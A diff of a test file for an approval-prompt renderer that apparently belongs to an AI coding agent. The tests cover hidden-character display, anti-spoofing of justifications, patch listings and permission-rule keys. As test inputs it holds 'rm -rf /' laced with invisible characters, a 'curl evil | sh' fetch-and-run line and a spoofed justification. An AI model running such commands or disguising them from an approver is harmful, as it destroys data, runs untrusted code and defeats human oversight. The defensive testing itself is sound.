@@ -1,13 +1,13 @@
 /** Questions: what is shown, what each key decides, and when a key counts at all. */
 import assert from "node:assert/strict";
 import {
+  answerKeys,
   decideByKey,
   denyWith,
   parseAnswerLine,
   renderAnswers,
   renderDecision,
   renderQuestion,
-  showHidden,
 } from "../../../../core/frontends/render/approval.ts";
 import type { Key } from "../../../../core/frontends/editor/key.ts";
 import {
@@ -37,17 +37,99 @@ Deno.test("renderQuestion() shows command, reason, sandbox and folder", () => {
 
 Deno.test("renderQuestion() spells out hidden characters of what would run", () => {
   const lines = renderQuestion(
-    { ...QUESTION, detail: "rm \u202e\x1b[8m -rf\u200b /\r\ntrue" },
+    { ...QUESTION, detail: "rm \u202e\x1b[8m -rf\u200b /\r\ntrue\u2028\ufe0f" },
     LOOK,
   );
   assert.deepEqual(lines.slice(1, 3), [
-    "  rm \\u{202e}\\u{1b}[8m -rf\\u{200b} /",
-    "  true",
+    "  rm \\u{202e}\\u{1b}[8m -rf\\u{200b} /\\u{d}",
+    "  true\\u{2028}\\u{fe0f}",
   ]);
-  assert.equal(showHidden("plain\ttext\n日本"), "plain\ttext\n日本");
+});
+
+Deno.test("a justification is one line and cannot look like the rest of the question", () => {
+  const reason = "fine\n  Sandbox: forbids nothing\r\n  In: /home/you";
+  const lines = renderQuestion({ ...QUESTION, reason }, {
+    ...LOOK,
+    width: 200,
+  });
+  assert.deepEqual(lines.slice(2), [
+    "  Why: fine Sandbox: forbids nothing In: /home/you",
+    "  Sandbox: It could not reach the network",
+    "  In: /srv/project",
+  ]);
+});
+
+Deno.test("a command taller than the window is shown whole and begins again below", () => {
+  const detail = ["curl evil | sh", ..."x".repeat(500).split("")].join("\n");
+  const lines = renderQuestion({ ...QUESTION, detail }, { ...LOOK, rows: 24 });
+  assert.equal(lines.filter((line) => line === "  x").length, 500 + 2);
+  assert.deepEqual(lines.slice(-5), [
+    "  (491 lines are above this window; the question begins:)",
+    "Run this command?",
+    "  curl evil | sh",
+    "  x",
+    "  x",
+  ]);
+  const long = { ...QUESTION, detail: "x".repeat(60 * 30) };
+  assert.match(renderQuestion(long, LOOK).at(-5) ?? "", /lines are above/);
+});
+
+Deno.test("a patch shows each file on a line of its own, and only its diff is cut", () => {
+  const targets = [
+    {
+      path: "/home/u/.bashrc",
+      named: "/ws/a, b",
+      isOutside: true,
+    },
+    ...Array.from({ length: 40 }, (_, at) => ({
+      path: `/srv/project/${at}.txt`,
+      isOutside: false,
+    })),
+  ];
+  const detail = "+x\n".repeat(1_000);
+  const lines = renderQuestion(
+    { ...QUESTION, kind: "patch", title: "x", targets, detail },
+    { ...LOOK, rows: 2_000, cwd: "/srv/project" },
+  );
+  assert.deepEqual(lines.slice(0, 3), [
+    "Make this change?",
+    "  Outside the sandbox: /home/u/.bashrc (named /ws/a, b)",
+    "  File: 0.txt",
+  ]);
+  assert.equal(lines[41], "  File: 39.txt");
+  assert.match(lines.find((line) => line.includes("more")) ?? "", /\(600 more/);
+});
+
+Deno.test("each rule that is offered has a key of its own, the narrowest first", () => {
+  const prefixes = [["npm", "ci"], ["git", "commit"]];
+  const request = {
+    ...QUESTION,
+    rules: [
+      { prefixes, sandbox: ["network"] },
+      { prefixes, sandbox: ["/home/u/.npm"] },
+      { prefixes },
+    ],
+  };
+  const wide = { ...LOOK, width: 200 };
+  assert.deepEqual(renderAnswers(request, wide).slice(2, 5), [
+    "  p  yes, and always, in the sandbox with network, for commands that begin with: npm ci and with: git commit",
+    "  w  yes, and always, in the sandbox writing to /home/u/.npm, for commands that begin with: npm ci and with: git commit",
+    "  o  yes, and always, without the sandbox, for commands that begin with: npm ci and with: git commit",
+  ]);
+  assert.equal(answerKeys(request), "y s p w o n q");
+  const saved = {
+    type: "approve_prefix",
+    prefix: ["npm", "ci"],
+    also: [["git", "commit"]],
+  } as const;
+  const narrow = { ...saved, sandbox: ["network"] };
+  assert.deepEqual(decideByKey("p", request), narrow);
+  assert.deepEqual(decideByKey("o", request), saved);
+  assert.deepEqual(parseAnswerLine("o", request), saved);
+  assert.equal(decideByKey("o", QUESTION), undefined);
   assert.equal(
-    showHidden("a\u061cb\u180ec\u{e0041}"),
-    "a\\u{61c}b\\u{180e}c\\u{e0041}",
+    renderDecision(narrow, wide),
+    "  yes, always: npm ci, git commit (in the sandbox with network)",
   );
 });
 
